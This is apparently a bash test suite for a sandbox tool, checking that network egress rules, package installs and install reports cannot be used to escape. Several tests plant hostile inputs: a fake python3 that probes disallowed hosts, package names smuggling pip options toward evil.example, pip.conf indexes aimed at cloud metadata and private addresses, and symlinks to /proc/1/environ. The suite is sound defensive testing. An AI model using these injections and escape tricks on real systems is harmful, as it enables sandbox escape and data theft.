#!/bin/bash
# Idea: what a box that stays may reach changes, and packages come from a registry that it reaches for a moment. Whoever runs in the box keeps a connection, an address or a
# listener from before, plants a package manager or its settings, or has a name of a package say more than a name.
# Escape: a host is reached that is no longer allowed, or that an installation has no business with; or what is planted runs as the package manager.
# Views: own
# shellcheck disable=SC2016,SC2154
. "${0%/*}/../lib/test.sh"
. "${0%/*}/../lib/attack.sh"
. "${0%/*}/../lib/lab.sh"
. "${0%/*}/../lib/registry.sh"

_new() {
	[ -n "${B:-}" ] || bundle
	BOX=$(_box create --rootfs "$B/rootfs" "$@")
}
_sh() { _box exec "${@:1:$#-1}" "$BOX" -- sh -c "${!#}"; }
_of() { jq -r "$1" <<<"$out"; }

an_address_from_before_leads_nowhere() {
	lab
	_new --allow good.example:22 --allow other.example:22
	run _sh 'nc good.example 22 </dev/null; nc other.example 22 </dev/null'
	: >"$LAB/seen"
	_box deny "$BOX" other.example
	run _sh 'for a in 198.18.1.0 198.18.1.1 11.0.2.1; do nc $a 22 </dev/null; done; printf "CONNECT other.example:22 HTTP/1.1\r\n\r\n" | nc 127.0.0.1 3128 | head -n 1'
	like "$out" 'SSH-2.0-lab.*403'
	nobody_reached '^11.0.2.1'
}

a_connection_from_before_is_cut() {
	lab
	_new --allow good.example:5432
	mkfifo go
	exec 9<>go
	_sh '{ echo first; cat; } | nc good.example 5432; echo end' <go >result 9>&- 2>/dev/null &
	reached '^11.0.1.1 5432 .*first'
	_box deny "$BOX" good.example
	echo secret >&9
	exec 9>&-
	wait_until 30 grep -q end result
	! grep -q secret result || fail 'ESCAPED: the connection was carried on'
}

# Its own listener stays its own, and is no way out: the rule at that port is said to lead nowhere.
a_listener_from_before_is_the_boxs_alone() {
	lab
	_new
	mkfifo go
	exec 9<>go
	_sh 'nc -l -p 2222 </dev/null >/dev/null 2>&1 & head -n 1 >/dev/null; echo end' <go >result 9>&- 2>/dev/null &
	wait_until 20 _listens
	run _box allow "$BOX" good.example:2222
	rc_is 0
	like "$err" 'a program in the box listens at port 2222'
	echo on >&9
	wait_until 30 grep -q end result
	nobody_reached .
}
_listens() { nsenter -t "$(sbx state "box-$BOX" | jq .pid)" -n sh -c 'cat /proc/net/tcp /proc/net/tcp6' | grep ':08AE ' >/dev/null; }

# A python3 of the root filesystem that tells how it was called, and asks for everything.
_hostile_python() {
	bundle
	mkdir -p "$B/rootfs/usr/bin"
	printf '#!/bin/sh\nprintf "%%s\\n" "$@"\nfor h in other.example good.example; do printf "GET http://$h/ HTTP/1.1\\r\\n\\r\\n" | nc 127.0.0.1 3128 | head -n 1; done; nc good.example 22 </dev/null\n%s\n' "$1" >"$B/rootfs/usr/bin/python3"
	chmod 755 "$B/rootfs/usr/bin/python3"
}

an_installation_reaches_its_registry_alone() {
	lab
	_hostile_python ''
	BOX=$ID
	_box create --id "$ID" --rootfs "$B/rootfs" --allow other.example --allow good.example:22 >/dev/null
	run _with '{"version": 1, "registries": {"pypi": {"index": "http://good.example/simple"}}}' _box install --json "$ID" pypi x
	nobody_reached '^11.0.2.1'
	nobody_reached ' 22 '
	hides "$(_of .stdout)" SSH
	like "$(_of .stdout)" 'HTTP/1.1 403.*HTTP/1.1 200'
	# And the box has its own again.
	run _sh 'nc good.example 22 </dev/null'
	like "$out" SSH-2.0-lab
}

# What runs while a package is installed counts as the box's.
an_installation_carries_no_more_than_its_box() {
	local file='{"version": 1, "registries": {"pypi": {"index": "http://good.example:7/simple"}}}'
	lab
	_hostile_python 'nc good.example 7 </dev/null | wc -c'
	_box create --id "$ID" --rootfs "$B/rootfs" --allow good.example:7 --net-limit 100k >/dev/null
	run _with "$file" _box install --json "$ID" pypi x
	_carried 50000 102400
	# What it had is gone for the box, too.
	BOX=$ID
	run _sh 'nc good.example 7 </dev/null | wc -c'
	is "$out" 0
}
_carried() {
	local got
	got=$(_of .stdout | grep -E '^[0-9]+$' | tail -n 1)
	[ "$got" -ge "$1" ] || fail "$got bytes came"
	[ "$got" -le "$2" ] || fail "ESCAPED: $got bytes came"
}

names_say_no_more_than_a_name() {
	_hostile_python ''
	local name
	_box create --id "$ID" --rootfs "$B/rootfs" >/dev/null
	for name in --index-url=http://evil.example/ -rhttp://evil.example 'x --pre' 'git+http://evil.example/x' http://evil.example/x.whl './x' x.whl $'x\n--pre' 'x @ http://evil.example'; do
		run _with '{"version": 1, "registries": {"pypi": {"index": "http://good.example/simple"}}}' _box install --json "$ID" -- pypi "$name"
		hides "$out" '--no-input'
		rc_is 125
	done
}

# An image says where packages come from: that is no way into somebody's own network, nor past what the operator allows.
an_image_names_no_hosts_of_others() {
	local where bound='{"version": 1, "network": {"allowed": ["good.example"]}}'
	lab
	_hostile_python ''
	for where in 10.9.9.9:80 10.9.9.9 127.0.0.1:80 169.254.169.254 100.100.100.200 '[fd00::1]:80' '[::ffff:10.9.9.9]:80'; do
		printf '[global]\nindex-url = http://%s/simple\n' "$where" >"$B/rootfs/etc/pip.conf"
		run _box create --id "$ID.a" --rootfs "$B/rootfs" --allow @pypi
		[ "$rc" != 0 ] || escaped "the image lets its box reach $where"
		_box create --id "$ID" --rootfs "$B/rootfs" >/dev/null
		run _box install --json "$ID" pypi x
		hides "$out" '--no-input'
		run _box allow "$ID" @pypi
		[ "$rc" != 0 ] || escaped "the image lets its box reach $where"
		_box destroy "$ID"
	done
	nobody_reached '^10.9.9.9'
	printf '[global]\nindex-url = http://other.example/simple\n' >"$B/rootfs/etc/pip.conf"
	_box create --id "$ID" --rootfs "$B/rootfs" >/dev/null
	run _with "$bound" _box install --json "$ID" pypi x
	[[ $out == *'more than the operator allows'* ]] || escaped 'the image lets its box reach other.example'
	nobody_reached '^11.0.2.1'
	printf '[global]\nindex-url = http://good.example/simple\n' >"$B/rootfs/etc/pip.conf"
	run _with "$bound" _box install --json "$ID" pypi x
	like "$(_of .stdout)" 'HTTP/1.1 200'
}

# What the box says that it has installed is read as a file, and only that.
a_report_is_no_way_out() {
	local what
	lab
	echo canary-of-the-host >"$T/canary"
	for what in 'ln -s '"$T"'/canary $f' 'ln -s /proc/1/environ $f' 'mkfifo $f' 'mkdir $f' 'dd if=/dev/zero of=$f bs=1M count=20 2>/dev/null' 'i=0; while [ $i -lt 3000 ]; do printf [; i=$((i+1)); done >$f'; do
		_hostile_python 'for f; do case $f in /workspace/.install-*) rm -f $f; '"$what"';; esac; done; exit 0'
		[ -e "$T/state/box-$ID" ] || _box create --id "$ID" --rootfs "$B/rootfs" >/dev/null
		run _with '{"version": 1, "registries": {"pypi": {"index": "http://good.example/simple"}}}' _box install --json --timeout 60 "$ID" pypi x
		is "$(_of .install.installed)" '[]'
		hides "$out" canary
		_box destroy "$ID"
	done
}

a_planted_package_manager_is_not_run() {
	[ -e /usr/lib/python3/dist-packages/pip ] || skip 'needs pip in /usr'
	registry
	run _with "$OPERATOR" _box create --id "$ID" --rootfs host --memory 1g python
	_box exec "$ID" -- sh -c 'd=.local/lib/python3.11/site-packages; mkdir -p $d/pip .config/pip; echo "print(\"PLANTED\")" | tee pip.py $d/sitecustomize.py $d/usercustomize.py $d/pip/__init__.py $d/pip/__main__.py >/dev/null
		printf "[global]\nindex-url = http://evil.example/\n" >.config/pip/pip.conf; cp .config/pip/pip.conf .pip.conf 2>/dev/null; :' >/dev/null
	run _with "$OPERATOR" _box install --json "$ID" pypi tiny-one
	rc_is 0
	hides "$out" PLANTED
	nobody_asked evil
	is "$(_of .install.installed[0].name)" tiny-one
}

the_door_is_not_in_the_box() {
	lab
	_new --allow good.example:22
	run _sh 'find / -name "egress*" 2>/dev/null; cat /proc/net/unix | grep -c egress; ls /run/sbxrun 2>&1 | head -n 1'
	hides "$out" 'egress.sock'
	is "$(stat -c %a "$T/state/box-$BOX/egress.sock")" 600
	is "$(stat -c %a "$T/state/box-$BOX")" 700
}

run_tests
